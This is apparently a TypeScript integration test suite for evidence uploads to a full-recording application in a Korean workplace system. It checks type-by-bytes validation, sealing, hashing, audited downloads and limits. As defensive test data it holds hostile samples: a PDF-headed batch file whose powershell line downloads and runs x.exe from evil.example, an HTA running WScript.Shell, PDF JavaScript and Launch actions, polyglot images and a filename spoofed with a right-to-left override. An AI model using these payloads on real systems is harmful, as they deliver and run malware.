/**
 * 증빙자료 with a full-recording application (Art. 6), through the real API with real logins: files sent with the
 * form are sealed, listed with their SHA-256 and the name the uploader gave them (as text), named on the DOCX, and
 * given back byte for byte only as a download under the system's name with the extension of their checked type,
 * audited; a file that is not a PDF, JPEG or PNG by its bytes (whatever it claims), or is one only at its start (a
 * script or HTA behind a PDF header, bytes after an image's end, a PDF that runs a script), one too large, too many,
 * or a request without its CSRF token refuses the whole request and leaves no application, row or sealed file behind.
 */
import { createHash } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import JSZip from 'jszip';
import type { ApplicationDetail } from '../../api/full-recording';
import { Attachment, AuditEvent, FullRecordingApplication } from '../../infra/db/entities';
import { loggedIn, SAMPLE_FILES, type TestClient, type TestFile } from '../support/api';
import { availableDrivers } from '../support/databases';
import { startWorkflowStack, type WorkflowStack } from '../support/workflow-stack';
import { eventually } from '../support/eventually';
import { convertToPdf, savePageImage } from '../support/libreoffice';
import { sampleJpeg, samplePdf, samplePdfWithObjectStream, samplePng } from '../support/sample-files';

const sha256 = (content: Buffer) => createHash('sha256').update(content).digest('hex');
const pdf = (name: string, content = SAMPLE_FILES.pdf): TestFile => ({ field: 'evidence', name, type: 'application/pdf', content });

describe.each(availableDrivers())('evidence with a full-recording application (%s)', (driver) => {
  let stack: WorkflowStack;
  let head: TestClient;
  let fields: Record<string, string>;

  beforeAll(async () => {
    stack = await startWorkflowStack(driver);
    head = await loggedIn(stack.api.url, 'dept_head');
    fields = {
      extensions: stack.calls.staffExtension.number,
      ground: 'malicious_complaints',
      reason: '폭언 민원이 반복되어 전수 녹취가 필요합니다',
      periodFrom: stack.calendar.localDate(new Date(await stack.env.currentTimeMs())),
      periodTo: '',
    };
  }, 60_000);
  afterAll(async () => stack?.close());

  const em = () => stack.database.orm.em.fork();
  const sealedFiles = () => {
    try {
      return readdirSync(path.join(stack.api.documentsDir, 'documents'));
    } catch {
      return [];
    }
  };
  const state = async () => ({
    applications: await em().count(FullRecordingApplication, {}),
    attachments: await em().count(Attachment, {}),
    sealed: sealedFiles().length,
  });
  const apply = (files: TestFile[], client = head, options: { csrf?: boolean } = {}) =>
    client.request('POST', '/full-recording', {
      multipart: { fields: { ...fields, _csrf: options.csrf === false ? '' : (client.csrfToken ?? '') }, files },
      csrf: false,
    });

  test('hostile or oversized files, too many of them, or a missing token refuse the whole request and store nothing', async () => {
    const before = await state();
    const disguised = await apply([pdf('민원기록.pdf', Buffer.from('<html><script>alert(1)</script></html>'))]);
    expect(disguised.status).toBe(415);
    expect(await disguised.text()).toContain('PDF, JPEG, PNG');
    const executable = await apply([pdf('report.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]))]);
    expect(executable.status).toBe(415);
    // A valid PDF and then a bad one: the first is not kept either.
    expect((await apply([pdf('ok.pdf'), pdf('bad.pdf', Buffer.from('GIF89a'))])).status).toBe(415);
    const large = await apply([pdf('large.pdf', Buffer.concat([SAMPLE_FILES.pdf, Buffer.alloc(300 * 1024)]))]);
    expect(large.status).toBe(413);
    expect(await large.text()).toContain('한 개에 256 KB까지');
    expect((await apply([pdf('1.pdf'), pdf('2.pdf'), pdf('3.pdf'), pdf('4.pdf')])).status).toBe(413);
    expect((await apply([pdf('empty.pdf', Buffer.alloc(0))])).status).toBe(400);
    expect((await apply([pdf('ok.pdf')], head, { csrf: false })).status).toBe(403);
    // The JSON API does not take files in another shape, and the upload route takes nothing but a multipart form.
    const json = await head.json('POST', `/api/full-recording-applications/${stack.calls.staffCall.id}/evidence`, { json: { evidence: 'JVBERi0=' } });
    expect(json).toMatchObject({ status: 415, body: { code: 'UNSUPPORTED_MEDIA_TYPE' } });
    expect(await state()).toEqual(before);
  });

  test('filed with the form: sealed, listed with its hash, on the DOCX, downloaded byte for byte and audited', async () => {
    const scan = SAMPLE_FILES.png;
    const filed = await apply([
      pdf('C:\\Users\\kim\\바탕 화면\\민원 응대 기록.pdf'),
      { field: 'evidence', name: '../../\u202egnp.exe', type: 'application/octet-stream', content: scan },
    ]);
    expect(filed.status).toBe(303);
    const id = (filed.headers.get('location') ?? '').split('/').pop() as string;
    const chief = await loggedIn(stack.api.url, 'chief');
    const detail = (await chief.json<ApplicationDetail>('GET', `/api/full-recording-applications/${id}`)).body;
    expect(
      detail.evidence.map(({ fileName, originalName, contentType, sizeBytes, sha256: hash }) => ({ fileName, originalName, contentType, sizeBytes, hash })),
    ).toEqual([
      {
        fileName: `증빙자료_${id}_1.pdf`,
        originalName: '민원 응대 기록.pdf',
        contentType: 'application/pdf',
        sizeBytes: SAMPLE_FILES.pdf.length,
        hash: sha256(SAMPLE_FILES.pdf),
      },
      // Folders and the right-to-left override gone from the name shown; typed and named by its bytes, not by what
      // the browser said.
      { fileName: `증빙자료_${id}_2.png`, originalName: 'gnp.exe', contentType: 'image/png', sizeBytes: scan.length, hash: sha256(scan) },
    ]);
    // Sealed: the stored file is not the plaintext.
    const sealed = sealedFiles();
    expect(sealed).toEqual(expect.arrayContaining(detail.evidence.map((file) => `${file.id}.sealed`)));
    expect(detail.history.map((step) => step.action)).toEqual(['full_recording.applied', 'attachment.added', 'attachment.added']);

    const download = await chief.request('GET', `/api/full-recording-applications/${id}/evidence/${detail.evidence[1]!.id}`);
    expect(download.status).toBe(200);
    expect(download.headers.get('content-type')).toBe('image/png');
    expect(download.headers.get('content-disposition')).toBe(
      `attachment; filename="evidence_${id}_2.png"; filename*=UTF-8''${encodeURIComponent(`증빙자료_${id}_2.png`)}`,
    );
    expect(download.headers.get('x-content-type-options')).toBe('nosniff');
    expect(download.headers.get('cache-control')).toBe('no-store');
    expect(download.headers.get('content-security-policy')).toContain('sandbox');
    expect(Buffer.from(await download.arrayBuffer()).equals(scan)).toBe(true);
    const downloads = await em().find(AuditEvent, { action: 'attachment.downloaded', targetId: id });
    expect(downloads).toHaveLength(1);
    expect(downloads[0]).toMatchObject({ actor: 'choi.chief', detail: expect.stringContaining(sha256(scan)) });
    // Another application's id with this attachment's id finds nothing.
    expect((await chief.request('GET', `/api/full-recording-applications/${stack.calls.staffCall.id}/evidence/${detail.evidence[0]!.id}`)).status).toBe(404);

    const docx = Buffer.from(await (await chief.request('GET', `/full-recording/${id}/document`)).arrayBuffer());
    const text = (await (await JSZip.loadAsync(docx)).file('word/document.xml')!.async('string')).replace(/<[^>]+>/g, '');
    expect(text).toContain('1. 민원 응대 기록.pdf');
    expect(text).toContain('2. gnp.exe');

    // More while it is reviewed, through the API; counted against the limit with what is already there.
    const more = await head.request('POST', `/api/full-recording-applications/${id}/evidence`, { multipart: { files: [pdf('추가 자료.pdf')] } });
    expect(more.status).toBe(201);
    expect(((await more.json()) as unknown[]).length).toBe(3);
    const tooMany = await head.json('POST', `/api/full-recording-applications/${id}/evidence`, { multipart: { files: [pdf('하나 더.pdf')] } });
    expect(tooMany).toMatchObject({ status: 413, body: { code: 'TOO_MANY_FILES', message: expect.stringContaining('이미 3개') } });

    // Once decided, the application is what was decided on.
    const operator = await loggedIn(stack.api.url, 'operator');
    expect(
      (await operator.json('POST', `/api/full-recording-applications/${id}/sign-off`, { json: { decision: 'reject', comment: '근거 부족' } })).status,
    ).toBe(202);
    await eventually(async () => (await em().findOneOrFail(FullRecordingApplication, id)).status === 'rejected', {
      within: '15s',
      every: 100,
      what: 'the application rejected',
    });
    const late = await head.json('POST', `/api/full-recording-applications/${id}/evidence`, { multipart: { files: [pdf('늦은 자료.pdf')] } });
    expect(late).toMatchObject({ status: 409, body: { code: 'ACTION_REFUSED' } });
    expect(await em().count(Attachment, { ownerId: id })).toBe(3);
    expect(sealedFiles()).toHaveLength(3);
  }, 60_000);

  test("judged by the whole file: polyglots and PDFs that act on their own are refused; real files are kept under the system's name", async () => {
    // What office software and a PDF renderer really make, each under a name meant to mislead.
    const folder = mkdtempSync(path.join(tmpdir(), 'evidence-'));
    const source = path.join(folder, 'statement.txt');
    writeFileSync(source, '민원 응대 경위서\n2026. 11. 27. 폭언 민원 응대 기록\n');
    const office = readFileSync(await convertToPdf(source));
    const picture = readFileSync(await savePageImage(path.join(folder, 'statement.pdf'), 'evidence-upload-page'));
    const shownName = "민원 & '사진'.png";
    const filed = await apply([pdf('증빙자료.hta'), pdf('run.bat', office), { field: 'evidence', name: shownName, type: 'image/png', content: picture }]);
    expect(filed.status).toBe(303);
    const id = (filed.headers.get('location') ?? '').split('/').pop() as string;
    const chief = await loggedIn(stack.api.url, 'chief');
    const { evidence } = (await chief.json<ApplicationDetail>('GET', `/api/full-recording-applications/${id}`)).body;
    expect(evidence.map(({ fileName, originalName, contentType }) => ({ fileName, originalName, contentType }))).toEqual([
      { fileName: `증빙자료_${id}_1.pdf`, originalName: '증빙자료.hta', contentType: 'application/pdf' },
      { fileName: `증빙자료_${id}_2.pdf`, originalName: 'run.bat', contentType: 'application/pdf' },
      { fileName: `증빙자료_${id}_3.png`, originalName: shownName, contentType: 'image/png' },
    ]);

    // The chief downloads the `.hta` upload as the PDF it is, under the system's name.
    const download = await chief.request('GET', `/api/full-recording-applications/${id}/evidence/${evidence[0]!.id}`);
    expect(download.headers.get('content-type')).toBe('application/pdf');
    expect(download.headers.get('content-disposition')).toBe(
      `attachment; filename="evidence_${id}_1.pdf"; filename*=UTF-8''${encodeURIComponent(`증빙자료_${id}_1.pdf`)}`,
    );
    expect(download.headers.get('x-content-type-options')).toBe('nosniff');
    expect(Buffer.from(await download.arrayBuffer()).equals(SAMPLE_FILES.pdf)).toBe(true);

    // The page links the system's name and shows the uploader's as text, escaped.
    const page = await (await chief.request('GET', `/full-recording/${id}`)).text();
    expect(page).toContain(`download>증빙자료_${id}_3.png</a></td><td>민원 &#38; &#39;사진&#39;.png</td>`);
    expect(page).not.toContain(shownName);

    const before = await state();
    const refused = async (name: string, content: Buffer) =>
      head.json<{ code: string; message: string }>('POST', `/api/full-recording-applications/${id}/evidence`, {
        multipart: { files: [{ field: 'evidence', name, type: 'application/pdf', content }] },
      });
    const unsafe = (message: string) => ({ status: 415, body: { code: 'UNSAFE_FILE_CONTENT', message: expect.stringContaining(message) as string } });
    // A batch script and an HTA whose first line is a PDF header.
    expect(
      await refused('run.bat', Buffer.from('%PDF-1.7\r\n@echo off\r\npowershell -c "iwr http://evil.example/x.exe -o x.exe; .\\x.exe"\r\n')),
    ).toMatchObject(unsafe('PDF 구조가 올바르지 않습니다'));
    const hta = Buffer.from('%PDF-1.4\n<hta:application/><script>new ActiveXObject("WScript.Shell").Run("calc")</script>\n%%EOF\n');
    expect(await refused('증빙자료.hta', hta)).toMatchObject(unsafe('PDF 구조'));
    // A real PDF with a script run on opening: written plainly, spelt with #xx, or inside a compressed object stream.
    const script = '<< /S /JavaScript /JS (app.launchURL\\("http://evil.example/"\\)) >>';
    expect(await refused('민원.pdf', samplePdf({ catalog: '/OpenAction 4 0 R', extra: [script] }))).toMatchObject(unsafe('자바스크립트'));
    expect(await refused('민원.pdf', samplePdf({ extra: ['<< /S /J#61vaScript /J#53 (this.print\\(\\)) >>'] }))).toMatchObject(unsafe('자바스크립트'));
    expect(await refused('민원.pdf', samplePdfWithObjectStream(['<< /S /Launch /F (cmd.exe) >>']))).toMatchObject(unsafe('프로그램 실행'));
    // Images with something after their end.
    const zipHeader = Buffer.from('PK\x03\x04', 'latin1');
    expect(await refused('사진.png', Buffer.concat([samplePng(), zipHeader]))).toMatchObject(unsafe('IEND'));
    expect(await refused('사진.jpg', Buffer.concat([sampleJpeg(), zipHeader]))).toMatchObject(unsafe('EOI'));
    expect(await state()).toEqual(before);
    expect(await em().count(Attachment, { ownerId: id })).toBe(3);
    // Each refusal is audited with why.
    const refusals = await em().find(
      AuditEvent,
      { action: 'request.refused', targetId: `POST /api/full-recording-applications/${id}/evidence` },
      { orderBy: { seq: 'asc' } },
    );
    expect(refusals.map((entry) => entry.reason.split(':')[0])).toEqual(new Array(7).fill('UNSAFE_FILE_CONTENT'));
    expect(refusals.map((entry) => entry.detail)).toEqual(
      ['pdf_structure', 'pdf_structure', 'pdf_active_content', 'pdf_active_content', 'pdf_active_content', 'trailing_data', 'trailing_data'].map(
        (reason) => expect.stringContaining(reason) as string,
      ),
    );
  }, 120_000);
});
